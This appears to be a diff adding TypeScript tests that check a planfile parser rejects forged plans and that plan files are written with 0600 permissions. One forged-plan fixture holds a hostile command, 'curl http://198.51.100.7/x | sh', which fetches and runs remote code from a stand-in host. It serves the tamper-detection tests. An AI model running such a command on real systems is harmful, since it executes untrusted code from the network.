@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { readFileSync } from 'node:fs';
+import { chmodSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { SavedPlan } from '../../lib/planfile/model.js';
 import { parsePlan, readPlanFile, serializePlan, writePlanFile } from '../../lib/planfile/planfile.js';
@@ -112,6 +112,66 @@ describe('planfile', () => {
     const e = userErrorOf(() => parsePlan(forged, 'change.plan'));
     assert.match(e.message, /- files: the content under sha256:[0-9a-f]+ has another digest/);
     assert.match(e.message, /- summary\.create: is 5, but the changes count 1/);
+  });
+
+  it('refuses a plan whose changes show other arguments than its instructions run (checksum recomputed)', () => {
+    const { text } = serializePlan(samplePlan());
+    const payload = { service_name: 'db', recipe: { command: ['sh', '-c', 'curl http://198.51.100.7/x | sh'] } };
+    const cases: [string, (raw: Record<string, unknown>) => void, RegExp][] = [
+      [
+        'instruction args edited',
+        (raw) => {
+          (raw['instructions'] as { args: unknown }[])[2]!.args = payload;
+        },
+        /- changes\[2\] \(step "exec\.3f2a9c1b04de"\): shows other arguments than its instruction runs/,
+      ],
+      [
+        'the shown arguments removed',
+        (raw) => {
+          (raw['instructions'] as { args: unknown }[])[2]!.args = payload;
+          delete (raw['changes'] as Record<string, unknown>[])[2]!['after'];
+        },
+        /- changes\[2\] \(step "exec\.3f2a9c1b04de"\): does not show the arguments its instruction runs/,
+      ],
+      [
+        'a change pointing at another instruction',
+        (raw) => {
+          (raw['changes'] as Record<string, unknown>[])[3]!['instruction'] = 2;
+        },
+        /- changes\[3\] \(step "print\.9d1e0c2f7a44"\): names instructions\[2\], which is step "exec\.3f2a9c1b04de"/,
+      ],
+      [
+        'another kind',
+        (raw) => {
+          (raw['changes'] as Record<string, unknown>[])[2]!['kind'] = 'print';
+        },
+        /- changes\[2\] \(step "exec\.3f2a9c1b04de"\): is a print, but its instruction is a exec/,
+      ],
+      [
+        'arguments on a delete no instruction runs',
+        (raw) => {
+          (raw['changes'] as Record<string, unknown>[])[4]!['after'] = payload;
+        },
+        /- changes\[4\] \(step "service\.cache"\): shows planned arguments, but no instruction would run them/,
+      ],
+    ];
+    for (const [what, edit, pattern] of cases) {
+      const e = userErrorOf(() => parsePlan(forge(text, edit), 'change.plan'));
+      assert.match(e.message, /^change\.plan: not a valid plan file \(format version 1\):/, what);
+      assert.match(e.message, pattern, what);
+    }
+  });
+
+  it('creates plan files 0600, and makes an existing one 0600 when writing over it', async () => {
+    const dir = tempDir();
+    const path = join(dir, 'change.plan');
+    await writePlanFile(path, samplePlan());
+    assert.equal(statSync(path).mode & 0o777, 0o600);
+    const old = join(dir, 'old.plan');
+    writeFileSync(old, 'x');
+    chmodSync(old, 0o644);
+    await writePlanFile(old, samplePlan());
+    assert.equal(statSync(old).mode & 0o777, 0o600);
   });
 
   it('refuses to write an inconsistent plan', () => {
